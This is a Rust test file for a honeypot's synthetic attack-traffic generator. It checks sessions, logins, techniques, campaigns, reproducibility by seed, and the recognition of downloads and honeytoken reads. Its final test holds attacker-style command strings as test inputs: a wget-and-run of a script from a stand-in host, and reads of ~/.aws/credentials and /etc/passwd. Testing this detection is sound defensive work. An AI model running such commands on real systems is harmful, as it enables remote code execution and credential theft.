//! Tests of the synthetic traffic generator against a real SQLite store: what it writes is
//! what the dashboard reads (sessions, logins, techniques, campaigns, downloads, tokens),
//! the same seed gives the same sessions, and a store with events is refused.

use std::collections::BTreeMap;

use miragepot_store::{MAX_PAGE, SessionFilter, TopKind};

use super::*;

fn opts(events: u64, seed: u64) -> Options {
    Options {
        events,
        days: 7,
        seed,
        append: false,
    }
}

fn rules() -> Arc<Rules> {
    Arc::new(Rules::builtin().unwrap())
}

#[tokio::test]
async fn fills_every_dashboard_column() {
    let store = Store::open("sqlite::memory:").await.unwrap();
    let now = OffsetDateTime::now_utc();
    let t = generate(&store, rules(), &opts(6000, 7), now)
        .await
        .unwrap();
    assert!(t.events >= 6000 && t.events < 6200, "{t:?}");
    assert_eq!(store.count_events().await.unwrap(), t.events);
    let all = SessionFilter::default();
    assert_eq!(store.count_sessions(&all).await.unwrap(), t.sessions);
    assert!(t.logins > 0 && t.logins < t.sessions, "{t:?}");
    assert!(t.with_commands > 0 && t.with_commands <= t.logins, "{t:?}");

    // Every session started in the window and has ended.
    let mut rows = Vec::new();
    loop {
        let page = store
            .list_sessions(&all, MAX_PAGE, rows.len() as u64)
            .await
            .unwrap();
        if page.is_empty() {
            break;
        }
        rows.extend(page);
    }
    assert_eq!(rows.len() as u64, t.sessions);
    let from = miragepot_store::micros(now - Duration::days(7));
    for r in &rows {
        let started = miragepot_store::micros(r.started_at);
        assert!(
            started >= from && started < miragepot_store::micros(now),
            "{r:?}"
        );
        assert!(r.ended_at.is_some(), "{r:?}");
    }
    // The detectors ran: risky sessions, techniques, stages, campaign keys.
    assert!(
        rows.iter().any(|r| r.risk_score.unwrap_or(0) > 0),
        "no risk"
    );
    assert!(rows.iter().any(|r| r.downloads > 0), "no downloads");
    assert!(rows.iter().any(|r| r.tokens > 0), "no honeytoken touched");
    let techniques = store.top(TopKind::Techniques, None, 50).await.unwrap();
    assert!(
        techniques.iter().any(|t| t.value == "T1098.004"),
        "{techniques:?}"
    );
    let campaigns = store.campaigns(None, 50).await.unwrap();
    assert!(campaigns.iter().any(|c| c.ips > 1), "{campaigns:?}");
    let funnel = store.funnel(None).await.unwrap();
    assert_eq!(funnel.connected, t.sessions);
    assert!(funnel.persisted > 0, "{funnel:?}");
    // The common credentials lead, as in real logs.
    let users = store.top(TopKind::Usernames, None, 3).await.unwrap();
    assert_eq!(users.first().map(|u| u.value.as_str()), Some("root"));
    let sensors: Vec<_> = rows.iter().map(|r| r.sensor.as_str()).collect();
    assert!(sensors.iter().all(|s| *s == SENSOR));
}

#[tokio::test]
async fn the_same_seed_gives_the_same_sessions() {
    let now = OffsetDateTime::now_utc();
    let mut seen = Vec::new();
    for seed in [3, 3, 4] {
        let store = Store::open("sqlite::memory:").await.unwrap();
        generate(&store, rules(), &opts(1500, seed), now)
            .await
            .unwrap();
        let pairs = store.top(TopKind::Pairs, None, 100).await.unwrap();
        let cmds = store.top(TopKind::Commands, None, 100).await.unwrap();
        let ips = store.top(TopKind::SrcIps, None, 100).await.unwrap();
        seen.push(format!("{pairs:?}{cmds:?}{ips:?}"));
    }
    assert_eq!(seen.first(), seen.get(1));
    assert_ne!(seen.get(1), seen.get(2));
}

#[test]
fn a_store_with_events_is_refused_unless_appending() {
    let dir = tempfile::tempdir().unwrap();
    let env: BTreeMap<String, String> = [(
        "MIRAGEPOT_SENSOR_DATA_DIR".to_string(),
        dir.path().display().to_string(),
    )]
    .into();
    let cfg = Config::load(None, &env).unwrap();
    run(&cfg, &opts(200, 1)).unwrap();
    let err = format!("{:#}", run(&cfg, &opts(200, 1)).unwrap_err());
    assert!(
        err.contains("already holds") && err.contains("--append"),
        "{err}"
    );
    let mut more = opts(200, 2);
    more.append = true;
    run(&cfg, &more).unwrap();
    for bad in [opts(0, 1), opts(MAX_EVENTS + 1, 1)] {
        assert!(run(&cfg, &bad).is_err());
    }
    let mut no_days = opts(10, 1);
    no_days.days = 0;
    assert!(run(&cfg, &no_days).is_err());
}

#[test]
fn downloads_and_token_reads_are_recognised() {
    let line = "cd /tmp; wget http://h.example/bins.sh; sh bins.sh";
    let got: Vec<_> = urls(line).collect();
    assert_eq!(got, ["http://h.example/bins.sh"]);
    let EventKind::Download { host, tool, .. } = download(line, "http://h.example/a/b", 9) else {
        panic!("not a download");
    };
    assert_eq!((host.as_str(), tool.as_str()), ("h.example", "wget"));
    let tokens = mint(b"k", SessionId::new_at(OffsetDateTime::now_utc()), "/root");
    let aws = tokens
        .iter()
        .find(|t| t.path.ends_with("/.aws/credentials"))
        .unwrap();
    assert_eq!(
        output_for("cat ~/.aws/credentials", "", &tokens),
        aws.content
    );
    assert_eq!(output_for("cat /etc/passwd", "whoami", &tokens), "root\n");
}
